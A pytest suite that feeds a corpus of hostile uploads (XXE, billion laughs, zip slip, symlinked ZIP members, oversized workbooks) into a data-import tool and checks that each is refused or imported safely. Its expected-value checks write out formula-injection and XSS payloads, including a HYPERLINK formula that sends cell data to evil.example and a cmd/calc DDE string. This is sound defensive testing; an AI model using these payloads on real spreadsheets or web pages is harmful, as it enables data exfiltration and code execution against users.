"""Every file of the hostile corpus (tests/hostile_corpus.py) gets its exact outcome, and the store
changes by exactly what was imported: nothing where the file is refused, the good rows where it is
partly good. The store already holds the demo organisations, which no upload may touch.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from hostile_corpus import CASES, X_NAME, Case, Outcome
from test_post_day import assert_current

from impact.store.connection import connect
from impact.store.ingest import ImportResult, import_upload

ORG = "Corpus Trust"
BATCH_TABLES = ("post", "account_day", "outcome", "time_entry", "web_traffic")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def store(sample_store: Path, tmp_path: Path):
    path = tmp_path / "corpus.duckdb"
    shutil.copy(sample_store, path)
    con = connect(path)
    yield con
    con.close()


def rows_outside(con: duckdb.DuckDBPyConnection, batches: set[int]) -> dict[str, list[tuple[object, ...]]]:
    """Every row of every table except the rows the given batches wrote (and their import_batch rows)."""
    tables = [
        name
        for (name,) in con.execute(
            "SELECT table_name FROM information_schema.tables "
            "WHERE table_schema = 'main' AND table_type = 'BASE TABLE' ORDER BY 1"
        ).fetchall()
    ]
    state = {}
    for table in tables:
        columns = {
            c
            for (c,) in con.execute(
                "SELECT column_name FROM information_schema.columns WHERE table_name = ?", [table]
            ).fetchall()
        }
        key = "batch_id" if "batch_id" in columns else "id" if table == "import_batch" else None
        where = f"WHERE {key} IS NULL OR NOT list_contains($batches, {key})" if key else ""
        params = {"batches": sorted(batches)} if key else {}
        state[table] = con.execute(f'SELECT * FROM "{table}" {where} ORDER BY ALL', params).fetchall()
    return state


def matches(expected: str | re.Pattern[str] | None, actual: str | None) -> bool:
    if isinstance(expected, re.Pattern):
        return actual is not None and expected.fullmatch(actual) is not None
    return expected == actual


def check_result(result: ImportResult, outcome: Outcome) -> None:
    assert result.status == outcome.status, (result.file, result.error, result.rejections)
    if outcome.status == "rejected":
        assert matches(outcome.error, result.error), result.error
        assert result.batch_id is None
        return
    assert (result.rows_new, result.rows_updated, result.rows_rejected) == (
        outcome.rows_new,
        0,
        outcome.rows_rejected,
    ), result.rejections
    if outcome.reason:
        assert any(outcome.reason in reason for _, reason in result.rejections), result.rejections


def check_stored(con: duckdb.DuckDBPyConnection, result: ImportResult) -> None:
    """The batch wrote exactly its new rows, and a reason for each line left out."""
    written = sum(
        con.execute(f"SELECT count(*) FROM {table} WHERE batch_id = ?", [result.batch_id]).fetchone()[0]
        for table in BATCH_TABLES
    )
    assert written == result.rows_new
    reasons = con.execute("SELECT count(*) FROM import_rejection WHERE batch_id = ?", [result.batch_id]).fetchone()[0]
    assert (reasons > 0) == (result.rows_rejected > 0)


def post_texts(con: duckdb.DuckDBPyConnection) -> list[str]:
    return [
        t
        for (t,) in con.execute(
            "SELECT text FROM post JOIN organisation o ON o.id = organisation_id WHERE o.name = ? ORDER BY post_id",
            [ORG],
        ).fetchall()
    ]


# What some cases must have stored, beyond their counts.
STORED: dict[str, Callable[[duckdb.DuckDBPyConnection], None]] = {
    "a feed whose title is an external entity (XXE)": lambda con: post_texts(con) == [None],
    "a feed of nested entities (billion laughs)": lambda con: all(len(t or "") < 1000 for t in post_texts(con)),
    "formulas and HTML in post texts": lambda con: (
        # Stored as written; pages show them escaped and downloads neutralise them (tests/test_pages.py).
        post_texts(con)
        == [
            '=HYPERLINK("http://evil.example","Click")',
            "+cmd|' /C calc'!A0",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
        ]
    ),
    "XLSX with an external link": lambda con: (
        # The linked cell's cached value is read; the linked workbook is never fetched.
        con.execute(
            "SELECT impressions FROM post JOIN organisation o ON o.id = organisation_id "
            "WHERE o.name = ? AND post_id = '2083481738146849459'",
            [ORG],
        ).fetchone()
        == (1520,)
    ),
    "XLSX with formulas and HTML in texts": lambda con: (
        '=HYPERLINK("http://evil.example/?"&A1,"Click")' in post_texts(con)
        and "<script>alert(1)</script>" in post_texts(con)
    ),
    "a column named twice": lambda con: (
        con.execute(
            "SELECT video_views FROM account_day JOIN organisation o ON o.id = organisation_id WHERE o.name = ?", [ORG]
        ).fetchall()
        == [(3,)]
    ),
    "zip slip": lambda con: not Path("/tmp/evil").exists(),
    "an absolute member path": lambda con: not Path("/etc/cron.d", X_NAME).exists(),
    "a symbolic link in a ZIP": lambda con: not any("root:" in (t or "") for t in post_texts(con)),
    "Razorpay amounts with symbols and exponents": lambda con: (
        con.execute(
            "SELECT reference, amount FROM outcome JOIN organisation o ON o.id = organisation_id WHERE o.name = ? "
            "ORDER BY 1",
            [ORG],
        ).fetchall()
        == [("pay_A1", 500), ("pay_A4", 1250.5)]
    ),
}


def test_the_corpus_is_large_and_its_cases_are_named_once():
    assert len(CASES) >= 60
    assert len({c.name for c in CASES}) == len(CASES)
    assert set(STORED) <= {c.name for c in CASES}


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_each_hostile_file_has_its_outcome_and_changes_only_what_it_imports(store, case: Case):
    before = rows_outside(store, set())

    results = import_upload(store, case.file, case.make(), ORG)

    assert len(results) == len(case.outcomes), [(r.file, r.status, r.error) for r in results]
    for result, outcome in zip(results, case.outcomes, strict=True):
        check_result(result, outcome)
        for shown in (result.sentence(), str(result.as_json())):
            assert not CONTROL.search(shown), shown
    batches = {r.batch_id for r in results if r.batch_id is not None}
    after = rows_outside(store, batches)
    if not batches:
        assert after == before  # refused: the store is exactly as it was
    else:
        # Besides the batches' own rows, only the new organisation and its accounts may be added, and the
        # day sums of the posts made again (what the posts sum to now).
        grown = ("organisation", "account", "post_day")
        assert_current(store)
        assert {t: rows for t, rows in after.items() if t not in grown} == {
            t: rows for t, rows in before.items() if t not in grown
        }
        for table in ("organisation", "account"):
            assert set(before[table]) <= set(after[table])
        [org_id] = [row[0] for row in set(after["organisation"]) - set(before["organisation"])]
        assert all(row[1] == org_id for row in set(after["account"]) - set(before["account"]))
        for result in results:
            if result.batch_id is not None:
                check_stored(store, result)
    if case.name in STORED:
        assert STORED[case.name](store)


SLOW_ON_THE_PAGE = ("XLSX with 2.4 million cells and no dimension", "XLSX with 2.1 million shared strings")


def test_the_upload_page_survives_the_whole_corpus(sample_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Every file at once, as a careless or hostile person could send them: each gets its line, the page stays up."""
    from streamlit.testing.v1 import AppTest

    path = tmp_path / "page.duckdb"
    shutil.copy(sample_store, path)
    monkeypatch.setenv("IMPACT_DB", str(path))
    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "app.py"), default_timeout=300)
    at.switch_page("pages/upload/upload.py")
    at.run()
    at.text_input[0].set_value(ORG)
    # The uploader itself refuses other extensions and NUL bytes in names (Streamlit checks them on the server
    # too): such names are made ones it takes.
    allowed = (".csv", ".xlsx", ".xls", ".zip", ".txt")
    # The two workbooks of millions of cells take seconds each to refuse and are tested one by one above.
    cases = [c for c in CASES if c.name not in SLOW_ON_THE_PAGE]
    assert len(cases) == len(CASES) - len(SLOW_ON_THE_PAGE)
    names = [c.file.replace("\x00", "") for c in cases]
    uploads = [(n if n.lower().endswith(allowed) else n + ".txt", c.make()) for n, c in zip(names, cases, strict=True)]
    at.file_uploader[0].set_value([(name, data, "application/octet-stream") for name, data in uploads]).run()
    assert not at.exception
    [button] = [b for b in at.button if b.label.startswith(f"Import {len(cases)} files")]
    button.click().run()
    assert not at.exception

    shown = (
        [(m, "imported") for m in at.success] + [(m, "skipped") for m in at.info] + [(m, "rejected") for m in at.error]
    )
    expected = [o.status for c in cases for o in c.outcomes]
    assert len(shown) == len(expected)
    # The same bytes sent twice are skipped the second time; every refusal is a refusal on the page too.
    assert sorted(status for _, status in shown if status == "rejected") == [s for s in expected if s == "rejected"]
    for message, _ in shown:
        assert message.value.startswith("**") and not CONTROL.search(message.value)
